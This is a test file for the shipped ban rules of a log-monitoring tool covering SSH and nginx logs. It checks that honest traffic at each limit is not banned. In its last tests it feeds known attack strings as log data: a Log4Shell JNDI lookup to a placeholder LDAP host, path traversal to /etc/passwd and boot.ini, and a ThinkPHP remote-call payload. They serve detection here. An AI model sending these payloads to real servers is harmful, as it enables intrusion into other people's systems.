/**
 * Honest traffic at the edge of each shipped rule: people and programs who do exactly as much as it allows are not banned by
 * any rule, and with one line more by this one.
 */
import { strict as assert } from "node:assert";
import { parse } from "jsonc-parser";
import type { Config } from "../../lib/config/types.ts";
import { type Micros, SECOND } from "../../lib/core/time.ts";
import { ModuleHealth } from "../../lib/reading/health.ts";
import { LineReader } from "../../lib/reading/line_reader.ts";
import { Engine } from "../../lib/rules/engine.ts";
import { load, SHIPPED } from "../support/configs.ts";
import { linesAt } from "../support/records.ts";

const ADDRESS = "203.0.113.5";
const START = Date.UTC(2026, 2, 2, 8) / 1_000;
const NOW: Micros = Date.UTC(2026, 2, 9) * 1_000;
const MINUTE = 60;

/** Some line number `i` of what somebody does every so many seconds. */
interface Habit {
  readonly who: string;
  readonly every: number;
  readonly line: (i: number) => string;
}

const port = (i: number) => `${ADDRESS} port ${40_000 + i}`;
const access = (request: string, status = 404, { user = "-", agent = "Mozilla/5.0" } = {}) =>
  `${ADDRESS} - ${user} [TIME] "${request}" ${status} 157 "-" "${agent}"`;
const get = (target: string, status?: number) => access(`GET ${target} HTTP/1.1`, status);
const error = (text: string) =>
  `DATE [error] 7#7: *1 ${text}, client: ${ADDRESS}, server: example.org, request: "GET / HTTP/1.1", host: "example.org"`;

const HABITS: Readonly<Record<string, Readonly<Record<string, Habit>>>> = {
  SSHD: {
    invalid_user: {
      who: "mistypes the login name",
      every: 30,
      line: (i) => `Invalid user nnia from ${port(i)}`,
    },
    failed_login: {
      who: "mistypes the password",
      every: 20,
      line: (i) => `Failed password for nina from ${port(i)} ssh2`,
    },
    patient_guessing: {
      who: "has a script with an old password",
      every: 65 * MINUTE,
      line: (i) => `Failed password for backup from ${port(i)} ssh2`,
    },
    pam: {
      who: "mistypes the one-time code",
      every: 20,
      line: () => `error: PAM: Authentication failure for nina from ${ADDRESS}`,
    },
    key_of_nobody: {
      who: "has an agent with six keys and forgets the login name",
      every: 5,
      line: (i) => `Failed publickey for invalid user laptop from ${port(i)} ssh2: ED25519 SHA256:abc`,
    },
    gave_up: {
      who: "looks for the password, again and again",
      every: 30,
      line: (i) => `Connection closed by authenticating user nina ${port(i)} [preauth]`,
    },
    left_early: {
      who: "has a monitor that reads the greeting",
      every: 14,
      line: (i) => `Connection closed by ${port(i)} [preauth]`,
    },
    too_many_tries: {
      who: "has an agent with many keys",
      every: 40,
      line: (i) => `error: maximum authentication attempts exceeded for nina from ${port(i)} ssh2 [preauth]`,
    },
    many_names: {
      who: "shares an address with colleagues who mistype their passwords",
      every: 5 * MINUTE,
      line: (i) => `Failed password for colleague${i} from ${port(i)} ssh2`,
    },
    root: {
      who: "does not remember root's password",
      every: 4 * MINUTE,
      line: (i) => `Failed password for root from ${port(i)} ssh2`,
    },
    not_allowed: {
      who: "has not been allowed in yet",
      every: MINUTE,
      line: () => `User nina from ${ADDRESS} not allowed because not listed in AllowUsers`,
    },
    not_ssh: {
      who: "has a monitor that only connects",
      every: 5 * MINUTE,
      line: (i) => `Did not receive identification string from ${port(i)}`,
    },
    timeout: {
      who: "leaves the prompt unanswered",
      every: 5 * MINUTE,
      line: (i) => `fatal: Timeout before authentication for ${port(i)}`,
    },
    penalised: {
      who: "does not notice that the server asks to wait",
      every: 20,
      line: () =>
        `srclimit_penalise: ipv4: new ${ADDRESS}/32 deferred penalty of 5 seconds for penalty: failed authentication`,
    },
  },
  NGINX: {
    wrong_password: {
      who: "mistypes the password",
      every: 20,
      line: () => error('user "nina": password mismatch'),
    },
    wrong_login: {
      who: "mistypes the password",
      every: 20,
      line: () => access("GET /private HTTP/1.1", 401, { user: "nina" }),
    },
    refused: {
      who: "turns the pages of a forbidden book",
      every: 5,
      line: (i) => get(`/book/${i}`, 403),
    },
    refused_form: {
      who: "has a page open that sends its state though the login has ended",
      every: 9,
      line: () => access("POST /api/state HTTP/1.1", 401),
    },
    refused_flood: {
      who: "has many pages open that go on asking after their login has ended",
      every: 0.5,
      line: () => get("/api/news", 401),
    },
    wordpress_login: {
      who: "writes with a program that calls xmlrpc.php",
      every: 25,
      line: () => access("POST /xmlrpc.php HTTP/1.1", 200),
    },
    wordpress_redirect: {
      who: "is at a school that logs in at the beginning of a lesson",
      every: 5,
      line: () => access("POST /wp-login.php HTTP/1.1", 302),
    },
    wordpress_flood: {
      who: "has a large site that the plugin Jetpack serves",
      every: 0.5,
      line: () => access("POST /xmlrpc.php?for=jetpack&token=abc%3A1%3A1 HTTP/1.1", 200),
    },
    limit_req: {
      who: "opens a page with many pictures",
      every: 5,
      line: () => error('limiting requests, excess: 5.4 by zone "one"'),
    },
    forbidden: {
      who: "clicks through folders without an index",
      every: 20,
      line: (i) => error(`directory index of "/srv/www/${i}/" is forbidden`).replace("GET / ", `GET /${i}/ `),
    },
    secrets: {
      who: "looks whether the own secrets are safe",
      every: MINUTE,
      line: (i) => get(`/.env${i}`, 403),
    },
    leftovers: {
      who: "looks for files that are gone",
      every: MINUTE,
      line: (i) => get(`/notes/${i}.old`),
    },
    scanner: {
      who: "looks for the login of a site that was moved",
      every: MINUTE,
      line: (i) => get(`/wp-admin/${i}`),
    },
    missing_script: {
      who: "has a page open that shows what many old addresses send",
      every: 2,
      line: (i) => get(`/old/page${i}.php`),
    },
    missing_script_flood: {
      who: "is a search engine, and asks for all pages of a site that was moved",
      every: 1.5,
      line: (i) =>
        access(`GET /old/page${i}.asp HTTP/1.1`, 404, { agent: "Mozilla/5.0 (compatible; bingbot/2.0)" }),
    },
    missing_program: {
      who: "follows old links",
      every: 2.5,
      line: (i) =>
        error(`open() "/srv/www/page${i}.php" failed (2: No such file or directory)`).replace(
          "GET / ",
          `GET /page${i}.php `,
        ),
    },
    exploit: {
      who: "reads notes about attacks",
      every: 5 * MINUTE,
      line: (i) => get(`/notes/base64_decode(${i}`, 200),
    },
    exploit_query: {
      who: "stores notes about attacks",
      every: 5 * MINUTE,
      line: (i) => get(`/notes/save?text=base64_decode(${i}`, 200),
    },
    sql_injection: {
      who: "searches a manual of SQL",
      every: MINUTE,
      line: (i) => get(`/search?q=md5(${i})`, 200),
    },
    xss: {
      who: "stores notes about HTML",
      every: MINUTE,
      line: (i) => get(`/notes/save?text=<b>${i}`, 200),
    },
    not_http: {
      who: "has a browser that tries TLS first",
      every: 10 * MINUTE,
      line: () => access("\\x16\\x03\\x01\\x02", 400),
    },
    bad_request: {
      who: "fills in a form that the site refuses",
      every: 15,
      line: () => access("POST /form HTTP/1.1", 400),
    },
    bad_token: {
      who: "waits before three devices for their tokens",
      every: 3,
      line: () => access("POST /oauth/token HTTP/1.1", 400),
    },
    bad_page: {
      who: "types words into a search that wants more letters",
      every: 15,
      line: (i) => get(`/api/search?q=a${i}`, 400),
    },
    bad_client: {
      who: "has a very old browser",
      every: 20,
      line: () => error("SSL_do_handshake() failed (SSL: error:0A000102) while SSL handshaking"),
    },
    attack_tool: {
      who: "has the own site looked over",
      every: 10 * MINUTE,
      line: () => access("GET / HTTP/1.1", 200, { agent: "Nikto/2.5" }),
    },
    open_proxy: {
      who: "has entered a wrong proxy",
      every: 10 * MINUTE,
      line: () => access("CONNECT example.org:443 HTTP/1.1", 405),
    },
    foreign_site: {
      who: "has a program of the last century",
      every: 2 * MINUTE,
      line: (i) => get(`http://www.example.org/${i}`, 200),
    },
    not_found: {
      who: "follows dead links",
      every: 5,
      line: (i) => get(`/page/${i}`),
    },
  },
};

/** The shipped configuration where clients connect directly. */
function shipped(): Config {
  const settings = parse(Deno.readTextFileSync(SHIPPED));
  settings.modules.NGINX.trusted_proxies = [];
  return load(JSON.stringify(settings));
}

const CONFIG = shipped();

/**
 * The rules that ban somebody for messages of a module, of which some come together every so many seconds. What one process
 * writes stands in one text, message by message.
 */
function bansOf(module: string, instants: readonly (string | readonly string[])[], every: number): string[] {
  const { modules } = CONFIG;
  const engine = new Engine(
    modules.map(({ module: { name, form }, rules }) => ({ name, form, rules })),
    { ipv6Prefix: 64, isStored: false, room: { addresses: 100, bytes: 4_096 } },
  );
  const readable = modules.map(({ module: { identifiers, units, form } }, index) => ({
    index,
    identifiers,
    units,
    reader: form.open(() => engine.automatonOf(index)),
  }));
  const fail = (complaint: string) => assert.fail(complaint);
  const reader = new LineReader(readable, new ModuleHealth(modules.map(({ module }) => module.name), fail));
  return instants.flatMap((lines, i) => {
    const date = new Date((START + i * every) * 1_000);
    const [time, isoTime] = [clfTime(date), date.toISOString()];
    const nginxTime = isoTime.slice(0, 19).replace("T", " ").replaceAll("-", "/");
    return [lines].flat().flatMap((line, n) => {
      const headed = line.split("\n").map((message) =>
        module === "SSHD"
          ? `${isoTime} host sshd[${1_000 + 10 * i + n}]: ${message}`
          : message.replace("TIME", time).replace("DATE", nginxTime)
      );
      for (const line of headed) {
        assert.ok(reader.read(linesAt(NOW, line), 0, NOW) && reader.event.isUnderstood, line);
        engine.add(reader.event);
      }
      return engine.takeTrips().map(({ rule }) => rule);
    });
  });
}

/** `02/Mar/2026:08:00:00 +0000` */
function clfTime(date: Date): string {
  const [, day, month, year, time] = /^\w+, (\d+) (\w+) (\d+) ([\d:]+)/.exec(date.toUTCString())!;
  return `${day}/${month}/${year}:${time} +0000`;
}

Deno.test("every shipped rule has somebody honest at its edge", () => {
  for (const { module: { name }, rules } of CONFIG.modules) {
    assert.deepEqual(Object.keys(HABITS[name]!).toSorted(), rules.map(({ name }) => name).toSorted());
  }
});

for (const { module: { name: module }, rules } of CONFIG.modules) {
  for (const { name, limit, window } of rules) {
    const { who, every, line } = HABITS[module]![name]!;
    Deno.test(`the shipped rule ${name} of ${module} bans nobody who ${who}, up to its limit`, () => {
      const lines = Array.from({ length: limit + 1 }, (_, i) => line(i));
      assert.ok(limit * every * SECOND < window!, "all of them are within the window");
      assert.deepEqual(bansOf(module, lines.slice(0, -1), every), []);
      assert.deepEqual(bansOf(module, lines, every), [name]);
    });
  }
}

Deno.test("the shipped rules of NGINX count a request once, of which the error log tells as well", () => {
  for (const { name, limit } of CONFIG.modules.find(({ module }) => module.name === "NGINX")!.rules) {
    const { every, line } = HABITS.NGINX![name]!;
    const instants = Array.from({ length: limit }, (_, i) => {
      const request = / "([A-Z]+ [^"]+ HTTP\/1\.1)" \d/.exec(line(i))?.[1];
      const warning = error("a client request body is buffered to a temporary file /var/cache/nginx/1");
      return request === undefined ? [line(i)] : [line(i), warning.replace("GET / HTTP/1.1", request)];
    });
    assert.deepEqual(bansOf("NGINX", instants, every), [], name);
  }
});

/** What honest programs write more of than any limit. */
interface Program {
  readonly who: string;
  readonly module: string;
  readonly every: number;
  readonly count: number;
  /** The lines of one instant. */
  readonly lines: (i: number) => readonly string[];
}

const PROGRAMS: readonly Program[] = [
  {
    who: "whose program is asked for a name with each of a hundred files",
    module: "NGINX",
    every: 1,
    count: 100,
    lines: (i) => [
      access(`PROPFIND /files/${i} HTTP/1.1`, 401),
      access(`PROPFIND /files/${i} HTTP/1.1`, 207, { user: "nina" }),
    ],
  },
  {
    who: "whose program is asked for a name with each of a hundred forms",
    module: "NGINX",
    every: 1,
    count: 100,
    lines: () => [
      access("POST /rpc HTTP/1.1", 401),
      access("POST /rpc HTTP/1.1", 200, { user: "nina" }),
    ],
  },
  {
    who: "whose program asks for a picture of each file in a folder",
    module: "NGINX",
    every: 1,
    count: 200,
    lines: (i) => [access(`GET /preview/${i} HTTP/1.1`, 404, { user: "nina" })],
  },
  {
    who: "who is served by name and fetches missing pictures without",
    module: "NGINX",
    every: 1,
    count: 200,
    lines: (i) => [access("GET /files HTTP/1.1", 200, { user: "nina" }), get(`/preview/${i}`)],
  },
  {
    who: "who has a page open that goes on asking for news after its login has ended",
    module: "NGINX",
    every: 5,
    count: 500,
    lines: (i) => [get(`/api/news?_=${i}`, 401), get("/api/mails", 403)],
  },
  {
    who: "whose backup deletes chunks that are gone",
    module: "NGINX",
    every: 1,
    count: 200,
    lines: (i) => [access(`DELETE /backup/${i}.chunk HTTP/1.1`)],
  },
  {
    who: "whose program looks which files of a site its backup has already",
    module: "NGINX",
    every: 1,
    count: 25,
    lines: (i) => [
      access(`PROPFIND /cloud/remote.php/dav/files/nina/site${i}/wp-admin/index.php HTTP/1.1`),
      access(`MOVE /dav/site${i}/xmlrpc.php HTTP/1.1`),
      access(`HEAD /webdav/site/file${i}.php HTTP/1.1`),
      get(`/dav.php/files/site${i}/.env`),
      access(`PROPFIND /site/file${i}.php HTTP/1.1`),
    ],
  },
  {
    who: "who has a page open since before its site was made anew",
    module: "NGINX",
    every: 1,
    count: 200,
    lines: (
      i,
    ) => [get(`/assets/part-${i}.js`), get(`/_next/data/Xb_q-7/post-${i}.json`), get(`/js/${i}.mjs`, 401)],
  },
  {
    who: "who logs in where nginx forbids /wp-admin/ to strangers, with all that the page shows of it",
    module: "NGINX",
    every: 1,
    count: 20,
    lines: (i) => [get(`/wp-admin/css/part${i}.min.css`, 403), get(`/wp-admin/js/part${i}.min.js`, 403)],
  },
  {
    who: "whose software lacks words of a language, source maps, and parts for its administrators",
    module: "NGINX",
    every: 1,
    count: 15,
    lines: (i) => [
      get(`/sap/bc/ui5_ui5/app${i}/i18n/i18n_de.properties`),
      get(`/phpmyadmin/js/part${i}.js.map`),
      get(`/administrator/templates/atum/part${i}.js`),
      get(`/admin/config/part${i}/forms`, 403),
    ],
  },
  {
    who: "whose album makes small pictures by a script",
    module: "NGINX",
    every: 1,
    count: 200,
    lines: (i) => [get(`/i.php/upload/${i}-sm.jpg`)],
  },
  {
    who: "who follows links of an old site to pages of ASP and Java",
    module: "NGINX",
    every: 15,
    count: 38,
    lines: (i) => [get(`/old/page-${i}.aspx`)],
  },
  {
    who: "whose library lacks recordings, with their words",
    module: "NGINX",
    every: 1,
    count: 200,
    lines: (i) => [get(`/media/episode-${i}.opus`), get(`/media/song ${i}.m4a`), get(`/media/film-${i}.nfo`)],
  },
  {
    who: "whose programs ask for what UUIDs and hashes name, inside of paths too",
    module: "NGINX",
    every: 1,
    count: 150,
    lines: (i) => {
      const uuid = `0f1e2d3c-${1_000 + i}-4a5b-8c7d-0123456789ab`;
      return [
        get(`/api/assets/${uuid}/original`),
        get(`/api/assets/${uuid}/video/playback`, 401),
        get(`/buildid/${uuid.replaceAll("-", "")}/debuginfo`),
        get(`/dav/calendar/${uuid}.ics`, 401),
      ];
    },
  },
  {
    who: "whose clone has a .git in it",
    module: "NGINX",
    every: 5,
    count: 40,
    lines: (i) => [access(`PROPFIND /remote.php/dav/files/nina/project${i}/.git/ HTTP/1.1`)],
  },
  {
    who: "whose network drive looks for hidden files beside each file",
    module: "NGINX",
    every: 1,
    count: 200,
    lines: (
      i,
    ) => [access(`PROPFIND /share/${i}/.DS_Store HTTP/1.1`), access(`LOCK /share/${i}/.vs HTTP/1.1`)],
  },
  {
    who: "whose mail program looks for the settings of many mailboxes",
    module: "NGINX",
    every: 5,
    count: 40,
    lines: (i) => [get(`/autodiscover/autodiscover.json/v1.0/member${i}@example.org`)],
  },
  {
    who: "who writes in WordPress without the rights of an editor",
    module: "NGINX",
    every: 1,
    count: 40,
    lines: (i) => [get(`/wp-json/wp/v2/templates/${i}?context=edit`, 403)],
  },
  {
    who: "who follows links to articles about phpMyAdmin that are gone",
    module: "NGINX",
    every: 20,
    count: 20,
    lines: (i) => [get(`/articles/install-phpmyadmin-${i}`)],
  },
  {
    who: "who mirrors packages of which some are missing",
    module: "NGINX",
    every: 5,
    count: 20,
    lines: (i) => [get(`/pool/t/tool/tool-1.${i}.tar.gz`), get(`/tool/-/tool-1.${i}.tgz`)],
  },
  {
    who: "who searches a wiki that shows what it finds with each letter",
    module: "NGINX",
    every: 1,
    count: 20,
    lines: (i) => {
      const words = encodeURIComponent("/etc/passwd and chmod 777. Why?".slice(0, 11 + i));
      return [get(`/index.php?title=Special%3ASearch&search=${words}&limit=20`, 200)];
    },
  },
  {
    who: "who turns the pages of a search",
    module: "NGINX",
    every: 10,
    count: 50,
    lines: (i) => [get(`/?s=%3C%3Fphp+phpinfo%28&page=${i}`, 200)],
  },
  {
    who: "whose site is served by the plugin Jetpack",
    module: "NGINX",
    every: 5,
    count: 100,
    lines: (i) => [access(`POST /xmlrpc.php?for=jetpack&token=abc%3A1%3A1&nonce=${i} HTTP/1.1`, 200)],
  },
  {
    who: "whose build asks here for all its packages, of which most are elsewhere",
    module: "NGINX",
    every: 2,
    count: 150,
    lines: (i) => [
      get(`/simple/tool-${i}/`),
      get(`/maven/com/alibaba/druid/1.2.${i}/druid-1.2.${i}.pom`),
      get(`/maven/org/apache/solr/solr-core/9.${i}/solr-core-9.${i}.jar.sha1`),
      get(`/maven/org/example/tool${i}/maven-metadata.xml`),
      get(`/go/example.org/!tool${i}/@v/list`),
      get(`/nuget/v3-flatcontainer/tool.${i}/index.json`),
      get(`/packages/p2/vendor/tool${i}~dev.json`),
      get(`/extra/tool-1.${i}-1-any.pkg.tar.zst`),
      access(`HEAD /v2/library/tool${i}/manifests/1.${i}?ns=docker.io HTTP/1.1`),
      access(`GET /tool${i} HTTP/1.1`, 404, { agent: "npm/10.9.2 node/v22.14.0 linux x64 workspaces/false" }),
      access(`GET /info/tool${i} HTTP/1.1`, 404, { agent: "bundler/2.4.10 rubygems/3.4.10 ruby/3.2.2" }),
    ],
  },
  {
    who: "whose programs look in a cache for files by their hashes",
    module: "NGINX",
    every: 1,
    count: 150,
    lines: (i) => {
      const hash = `${1_000 + i}`.repeat(16);
      return [
        get(`/ac/${hash}`),
        access(`HEAD /v2/tool/blobs/sha256:${hash} HTTP/1.1`),
        get(`/${hash.slice(0, 32)}.narinfo`),
      ];
    },
  },
  {
    who: "who opens an album of which a program has no pictures or may not show them",
    module: "NGINX",
    every: 1,
    count: 200,
    lines: (i) => [
      get(`/album/${i}.JPG`, 403),
      get(`/Items/${i}/Images/Primary`),
      get(`/_matrix/client/v1/media/thumbnail/example.org/x${i}`),
      get(`/cover/${i}`),
    ],
  },
  {
    who: "whose server of Matrix or the Fediverse asks and tells what is refused",
    module: "NGINX",
    every: 1,
    count: 200,
    lines: (i) => [
      get(`/_matrix/federation/v1/event/x${i}`, 403),
      access("POST /inbox HTTP/1.1", 401),
      access("POST /users/nina/inbox HTTP/1.1", 400),
      access(`PUT /_matrix/federation/v1/send/${i} HTTP/1.1`, 403),
      get(`/_matrix/client/v3/room_keys/keys/!room:example.org/${i}`),
      access(`POST /users/former${i}/inbox HTTP/1.1`, 410),
    ],
  },
  {
    who: "who follows links of an old site to pages that are gone",
    module: "NGINX",
    every: 15,
    count: 38,
    lines: (i) => [
      get(`/2019/03/page-${i}/`),
      error(`"/srv/www/2019/03/page-${i}/index.php" is not found (2: No such file or directory)`).replace(
        "GET / ",
        `GET /2019/03/page-${i}/ `,
      ),
    ],
  },
  {
    who: "whose monitoring asks for a page that it may not see",
    module: "NGINX",
    every: 15,
    count: 200,
    lines: () => [
      get("/nginx_status", 403),
      error("access forbidden by rule").replace("GET / ", "GET /nginx_status "),
    ],
  },
  {
    who: "who has a device that asks for its token until somebody confirms it",
    module: "NGINX",
    every: 5,
    count: 120,
    lines: () => [access("POST /realms/home/protocol/openid-connect/token HTTP/1.1", 400)],
  },
  {
    who: "who is a search engine, and asks for all pages of a site that was closed",
    module: "NGINX",
    every: 4,
    count: 100,
    lines: (i) =>
      [401, 403].map((status) => access(`GET /page/${i} HTTP/1.1`, status, { agent: "bingbot/2.0" })),
  },
  {
    who: "whose cloud asks who of the colleagues is there",
    module: "NGINX",
    every: 4,
    count: 100,
    lines: (i) => [get(`/ocs/v2.php/apps/user_status/api/v1/statuses/member${i}`)],
  },
  {
    who: "whose album asks for pictures that somebody has deleted",
    module: "NGINX",
    every: 4,
    count: 100,
    lines: (
      i,
    ) => [get(`/api/assets/${String(i).padStart(8, "0")}-1111-4222-8333-444444444444/thumbnail`, 400)],
  },
  {
    who: "whose searches Matomo is told of",
    module: "NGINX",
    every: 20,
    count: 30,
    lines: (i) => {
      const url = encodeURIComponent(`https://example.org/find?q=/etc/passwd+<b>${i}+md5(1)`);
      return [get(`/matomo.php?idsite=1&rec=1&url=${url}&urlref=${url}`, 204)];
    },
  },
  {
    who: "who collects source code of which some was deleted",
    module: "NGINX",
    every: 20,
    count: 30,
    lines: (i) => [
      get(`/nina/tool/src/commit/${i}/.github/workflows/test.yml`),
      get(`/nina/tool/-/raw/v${i}/vendor/autoload.php`),
    ],
  },
  {
    who: "whose page has ten parts that ask for news after its login has ended",
    module: "NGINX",
    every: 5,
    count: 300,
    lines: (i) => [get(`/shop/part${i % 10}.do`, 403), get(`/shop/part${i % 10}.action`, 403)],
  },
  {
    who: "who moves a map of which some pieces are missing",
    module: "NGINX",
    every: 1,
    count: 200,
    lines: (i) => [get(`/tiles/14/${8_000 + i}/5371.png`), get(`/dem/12/${i}/1343@2x.webp`)],
  },
  {
    who: "who keeps the hidden files of a home here",
    module: "NGINX",
    every: 2,
    count: 20,
    lines: (i) =>
      ["PROPFIND", "PUT"].map((method) =>
        access(`${method} /.ssh/key${i}.pub HTTP/1.1`, 201, { user: "nina" })
      ),
  },
  {
    who: "who reads a site that keeps its style and scripts below /etc",
    module: "NGINX",
    every: 2,
    count: 50,
    lines: (i) => [get(`/etc/designs/site/style${i}.css`, 200)],
  },
  {
    who: "who searches a manual of HTML that shows what it finds with each letter",
    module: "NGINX",
    every: 1,
    count: 20,
    lines: (i) => [get(`/find?q=${encodeURIComponent("<button disabled class".slice(0, 2 + i))}`, 200)],
  },
  {
    who: "who searches a manual of SQL that shows what it finds with each letter",
    module: "NGINX",
    every: 1,
    count: 20,
    lines: (
      i,
    ) => [
      get(`/find?lang=de&q=${encodeURIComponent("select distinct(name of a town".slice(0, 9 + i))}`, 200),
    ],
  },
  {
    who: "who searches a library by words in brackets",
    module: "NGINX",
    every: 20,
    count: 30,
    lines: (i) => [get(`/find?query=(cats+OR+dogs)+AND+(food)+AND+(${1990 + i})`, 200)],
  },
  {
    who: "whose program asks an API of OData",
    module: "NGINX",
    every: 5,
    count: 100,
    lines: (i) => [
      get(
        `/odata/Orders?$filter=State eq 'Open' and (Kind eq 'A${i}' or Kind eq 'B')`.replaceAll(" ", "%20"),
        200,
      ),
      get(`/odata/People?$filter=contains(tolower(Name),'nina${i}')`, 200),
    ],
  },
  {
    who: "whose program asks a database by whole statements",
    module: "NGINX",
    every: 5,
    count: 100,
    lines: (i) => {
      const influx = encodeURIComponent(`SELECT last("a") FROM "b${i}";SELECT distinct("c") FROM "d"`);
      const sparql = encodeURIComponent(`SELECT (GROUP_CONCAT(?n) AS ?all) WHERE { ?s ?p ${i} }`);
      return [
        get(`/api/datasources/proxy/1/query?db=metrics&q=${influx}&epoch=ms`, 200),
        get(`/sparql?query=${sparql}&format=json`, 200),
        get(`/dbadmin/sql.php?db=shop&sql_query=SELECT+%2A+FROM+%60t${i}%60+ORDER+BY+1&pos=0`, 200),
      ];
    },
  },
  {
    who: "who opens WordPress' app and sends it pictures",
    module: "NGINX",
    every: 1,
    count: 300,
    lines: () => {
      const agent = "Mozilla/5.0 (Linux; Android 14; wv) AppleWebKit/537.36 wp-android/23.4";
      return [
        access("POST /xmlrpc.php HTTP/2.0", 200, { agent }),
        access("POST /wp-login.php HTTP/2.0", 200, { agent: agent.replace("android/23", "iphone/22") }),
      ];
    },
  },
  {
    who: "who looks through contacts and files by a page of the cloud, of which some have no picture",
    module: "NGINX",
    every: 1,
    count: 200,
    lines: (i) => [
      get(`/remote.php/dav/addressbooks/users/nina/contacts/${i}.vcf?photo`),
      get(`/remote.php/webdav/letters/${i}.odt`),
      get(`/api/v4/emoji/name/party${i}`, i % 2 ? 403 : 404),
      get(`/media/square_thumbnails/x${i}`, 403),
    ],
  },
  {
    who: "whose open pages and films go on telling after their login has ended",
    module: "NGINX",
    every: 2,
    count: 299,
    lines: () => [
      access("POST /index.php/apps/text/session/sync HTTP/1.1", 403),
      access("POST /Sessions/Playing/Progress HTTP/1.1", 401),
      access("POST /api/auth/token/refresh/ HTTP/1.1", 403),
    ],
  },
  {
    who: "whose open pages of WordPress ask on after their login has ended",
    module: "NGINX",
    every: 2,
    count: 299,
    lines: () => [
      access("POST /shop/wp-admin/admin-ajax.php HTTP/1.1", 403),
      access("POST /wp-admin/admin-ajax.php HTTP/1.1", 400),
    ],
  },
  {
    who: "who has pages open whose WebSockets a proxy does not let through",
    module: "NGINX",
    every: 1,
    count: 600,
    lines: (i) => [
      get(`/socket.io/?EIO=4&transport=websocket&sid=${i}`, 400),
      get("/notifications/hub?access_token=x", 400),
      get("/api/live/ws", 400),
    ],
  },
  {
    who: "who follows relative links as they are written",
    module: "NGINX",
    every: 20,
    count: 60,
    lines: (i) => [get(`/blog/../pictures/${i}.png`, 200), get(`/2026/../about/${i}/`, 200)],
  },
  {
    who: "whose game looks for each file packed first",
    module: "NGINX",
    every: 0.2,
    count: 1_000,
    lines: (i) =>
      [".bz2", ""].map((packed) =>
        access(`GET /maps/town_${i}.bsp${packed} HTTP/1.1`, 404, { agent: "Half-Life 2" })
      ),
  },
  {
    who: "whose chat asks for the profiles of strangers",
    module: "NGINX",
    every: 1,
    count: 200,
    lines: (i) => [get(`/_matrix/client/v3/profile/%40member${i}%3Aexample.org`, 403)],
  },
  {
    who: "whose game has a launcher by the name of Hydra",
    module: "NGINX",
    every: 5,
    count: 100,
    lines: () => [access("GET /news HTTP/1.1", 200, { agent: "HydraLauncher/3.1" })],
  },
  {
    who: "whose programs are asked to log in at each image and package, and then show a token",
    module: "NGINX",
    every: 3,
    count: 200,
    lines: (i) =>
      [`GET /v2/team/app${i}/manifests/latest`, `GET /maven/org/example/a${i}/1.0/a${i}-1.0.zip`].flatMap(
        (request) => [access(`${request} HTTP/1.1`, 401), access(`${request} HTTP/1.1`, 200)],
      ),
  },
  {
    who: "whose mail program agrees on a key by two refusals before each request",
    module: "NGINX",
    every: 5,
    count: 240,
    lines: () => [401, 401, 200].map((status) => access("POST /EWS/Exchange.asmx HTTP/1.1", status)),
  },
  {
    who: "who leaves a page open that sends its questions, until its login has ended and ever after",
    module: "NGINX",
    every: 5,
    count: 2_000,
    lines: (i) =>
      ["/ajaxExecutors", "/ajaxBuildQueue"].map((path) =>
        access(`POST ${path} HTTP/1.1`, i < 100 ? 200 : 403)
      ),
  },
  {
    who: "who is a load balancer, and asks for a page by a name that the site does not know",
    module: "NGINX",
    every: 5,
    count: 500,
    lines: () => [access("GET / HTTP/1.1", 400, { agent: "ELB-HealthChecker/2.0" })],
  },
  {
    who: "whose programs tell measurements of which some come too late",
    module: "NGINX",
    every: 5,
    count: 300,
    lines: () => [
      access("POST /api/v2/write?org=home&bucket=house HTTP/1.1", 400),
      access("POST /loki/api/v1/push HTTP/1.1", 400),
      access("POST /api/7/envelope/?sentry_key=x HTTP/1.1", 403),
      access("POST /csp-report HTTP/1.1", 400),
    ],
  },
  {
    who: "whose build tries all ways to write a package's name",
    module: "NGINX",
    every: 0.1,
    count: 256,
    lines: (i) => [
      access(`GET /index/my/-p/my-package${i}-name HTTP/1.1`, 404, { agent: "cargo/1.84.0 (66221abde)" }),
      access(`GET /debian/dists/stable/main/i18n/Translation-de.${i} HTTP/1.1`, 404, {
        agent: "Debian APT-HTTP/1.3 (2.6.1)",
      }),
      get(`/team/tool${i}.git/info/refs?service=git-upload-pack`),
    ],
  },
  {
    who: "whose player looks for the words and cuts of each film, and for art",
    module: "NGINX",
    every: 1,
    count: 100,
    lines: (i) => [
      ...["idx", "ass", "edl", "tbn"].map((end) => access(`HEAD /films/${i}/film.${end} HTTP/1.1`)),
      get(`/library/metadata/${i}/art/17`),
      get(`/map/14/${8_000 + i}/5371`),
    ],
  },
  {
    who: "whose client offers the ticket and the machine's key of another account first",
    module: "SSHD",
    every: 10,
    count: 60,
    lines: (i) => [
      `Failed gssapi-with-mic for nina from ${port(i)} ssh2`,
      `Failed hostbased for nina from ${
        port(i)
      } ssh2: ED25519 SHA256:abc, client user "nina", client host "a.example"`,
    ],
  },
  {
    who: "who asks for the site's own pages by whole addresses",
    module: "NGINX",
    every: 20,
    count: 200,
    lines: () => [error("access denied").replace("GET /", "GET http://example.org/")],
  },
  {
    who: "who collects host keys every six minutes of a day",
    module: "SSHD",
    every: 6 * MINUTE,
    count: 240,
    lines: (i) => [
      ...["ecdsa-sha2-nistp256", "rsa-sha2-512", "sk-ssh-ed25519@openssh.com"].map((key) =>
        `Unable to negotiate with ${port(i)}: no matching host key type found. Their offer: ${key} [preauth]`
      ),
      `Connection closed by ${port(i)} [preauth]`,
    ],
  },
];
for (const { who, module, every, count, lines } of PROGRAMS) {
  Deno.test(`the shipped rules of ${module} ban nobody ${who}`, () => {
    assert.deepEqual(bansOf(module, Array.from({ length: count }, (_, i) => lines(i)), every), []);
  });
}

Deno.test("the shipped rules of NGINX ban an attack in a search's words or beside them", () => {
  for (
    const query of [
      "q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D",
      "q=../../etc/passwd",
      "search=..%5C..%5Cboot.ini",
      "q=a&file=/etc/passwd",
      "s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=phpinfo",
      "query[]=/etc/passwd",
    ]
  ) {
    assert.deepEqual(
      bansOf("NGINX", Array.from({ length: 3 }, () => get(`/?${query}`, 200)), 1),
      ["exploit_query"],
      query,
    );
  }
});

Deno.test("the shipped rules of NGINX ban an attack outside of the query, whatever is searched", () => {
  for (
    const line of [
      access("GET /?q=a HTTP/1.1", 200, { agent: "${jndi:ldap://198.51.100.7/a}" }),
      get("/static/%2e%2e/%2e%2e/etc/issue?search=a&page=2", 400),
    ]
  ) {
    assert.deepEqual(bansOf("NGINX", Array.from({ length: 3 }, () => line), 1), ["exploit"], line);
  }
});

Deno.test("the shipped rules of NGINX ban who looks for shells and copies by many names", () => {
